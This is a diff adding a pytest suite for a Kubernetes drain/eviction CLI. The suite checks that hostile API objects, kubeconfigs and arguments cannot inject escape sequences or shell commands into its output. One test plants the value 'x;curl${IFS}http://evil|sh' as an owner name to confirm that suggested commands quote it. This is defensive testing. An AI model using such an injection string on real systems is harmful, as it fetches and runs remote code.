@@ -1,0 +1,132 @@
+"""Text that others wrote never steers the terminal, nor the shell into which a command is copied."""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from decide.dialects.story_scenes import SCENES
+from support.hostile_api import ATTACK, HostileApi, hostile_api, kubeconfig
+from support.screens import OWN_SEQUENCE, Shown, run
+
+pytestmark = pytest.mark.process
+
+SILENCE, BLOCKED, DAEMON = "handed over after silence", "blocked", "daemon set"
+PLACES = {"pipe": None, "terminal": (80, 24)}
+LOOKS = {
+    "status": ("status", "-A"),
+    "status json": ("status", "-A", "-o", "json"),
+    "status yaml": ("status", "-A", "-o", "yaml"),
+    "explain": ("explain", "web-1"),
+    "explain json": ("explain", "web-1", "-o", "json"),
+    "explain yaml": ("explain", "web-1", "-o", "yaml"),
+    "evict": ("evict", "web-1", "--timeout", "1s"),
+    "evict json": ("evict", "web-1", "-o", "json"),
+    "cancel": ("cancel", "web-1", "--requester", "drain.example.com"),
+    "cancel another's": ("cancel", "web-1", "--requester", "other.example.com"),
+    "cancel everyone's": ("cancel", "web-1", "--override"),
+}
+EVERYWHERE = {
+    **LOOKS,
+    "follow": ("status", "-w"),
+    "install": ("install",),
+    "uninstall": ("uninstall",),
+    "manager": ("manager", "--metrics-port", "0"),
+}
+
+
+@pytest.fixture(scope="module")
+def api() -> Iterator[HostileApi]:
+    with hostile_api() as running:
+        yield running
+
+
+def check(shown: Shown) -> None:
+    """Nothing but our own styles and movements, and no line that somebody else has begun."""
+    text = shown.plain
+    drawn = "\r" if "\x1b[" in shown.text else ""  # live views go back to the beginning of a line
+    odd = sorted({one for one in text if not one.isprintable() and one not in f"\n{drawn}"})
+    assert not odd, (odd, text)
+    assert "66;6H" not in "".join(OWN_SEQUENCE.findall(shown.text))
+    assert not re.search("^FORGED", text, re.MULTILINE), text
+    assert "Traceback" not in text, text
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("command", LOOKS)
+def test_hostile_objects(api: HostileApi, tmp_path: Path, command: str, place: str) -> None:
+    api.refusing = False
+    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
+    for scene in (SILENCE, BLOCKED, DAEMON) if command in ("status", "explain") else (SILENCE,):
+        play = SCENES[scene]()
+        api.serve(play.pod, play.request, play.budgets, names="-A" in LOOKS[command])
+        shown = run(*LOOKS[command], variables={"KUBECONFIG": str(config)}, terminal=PLACES[place])
+        check(shown)
+        assert "web-1" in shown.plain, shown.plain
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_a_live_view_of_hostile_objects(api: HostileApi, tmp_path: Path, place: str) -> None:
+    play = SCENES[SILENCE]()
+    api.refusing = False
+    api.serve(play.pod, play.request, play.budgets, names=False)
+    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
+    shown = run(
+        "status", "-A", "-w",
+        variables={"KUBECONFIG": str(config)}, terminal=PLACES[place], stop_when=lambda text: "web-1" in text,
+    )  # fmt: skip
+    check(shown)
+    assert "web-1" in shown.plain
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("command", EVERYWHERE)
+def test_hostile_refusals(api: HostileApi, tmp_path: Path, command: str, place: str) -> None:
+    api.refusing = True
+    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
+    shown = run(
+        *EVERYWHERE[command],
+        variables={"KUBECONFIG": str(config)},
+        terminal=PLACES[place],
+        stop_when=(lambda text: "owned" in text) if command == "manager" else None,
+    )
+    check(shown)
+    assert "owned" in shown.plain
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_a_hostile_kubeconfig(tmp_path: Path, place: str) -> None:
+    config = kubeconfig(tmp_path, f"ftp://{ATTACK}", ATTACK)
+    for arguments in (("status",), ("status", "--context", f"y{ATTACK}"), ("status", "--kubeconfig", ATTACK)):
+        shown = run(*arguments, variables={"KUBECONFIG": str(config)}, terminal=PLACES[place])
+        check(shown)
+        assert shown.code == 1
+
+
+@pytest.mark.parametrize(
+    "arguments", [(ATTACK,), ("status", f"--{ATTACK}"), ("evict", ATTACK), ("evict", "a", "-o", ATTACK)]
+)
+def test_hostile_arguments(arguments: tuple[str, ...]) -> None:
+    shown = run(*arguments, variables={}, terminal=(80, 24))
+    check(shown)
+    assert shown.code == 2
+
+
+def test_commands_to_be_copied_quote_what_others_chose(api: HostileApi, tmp_path: Path) -> None:
+    play = SCENES[DAEMON]()
+    api.refusing = False
+    api.serve(play.pod, play.request, play.budgets, names=False)
+    assert play.pod is not None
+    pod = api.tiny.objects[("pods", "default", "web-1")]
+    pod["metadata"]["ownerReferences"][0]["name"] = "x;curl${IFS}http://evil|sh"
+    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
+    shown = run("explain", "web-1", "-o", "json", variables={"KUBECONFIG": str(config)})
+    commands = [one["command"] for one in json.loads(shown.text)["remedies"]]
+    described = next(one for one in commands if "describe" in one)
+    assert shlex.split(described)[2] == "daemonset/x;curl${IFS}http://evil|sh"
+    assert not re.search(r"[;|$]", re.sub(r"'[^']*'", "", described))
